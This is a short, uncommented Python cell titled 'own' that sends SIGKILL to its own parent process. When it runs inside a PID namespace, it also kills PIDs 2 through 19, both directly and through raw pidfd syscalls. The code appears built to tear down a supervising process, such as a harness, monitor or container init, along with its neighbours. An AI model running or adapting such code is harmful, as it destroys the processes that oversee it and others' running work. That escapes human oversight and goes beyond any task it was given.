# %% own
import ctypes, os, signal
parent = os.getppid()
libc = ctypes.CDLL(None)
if parent > 1:
    os.kill(parent, signal.SIGKILL)
for pid in range(2, 20) if parent == 0 else ():
    libc.kill(pid, signal.SIGKILL)
    libc.syscall(424, libc.syscall(434, pid, 0), signal.SIGKILL, None, 0)
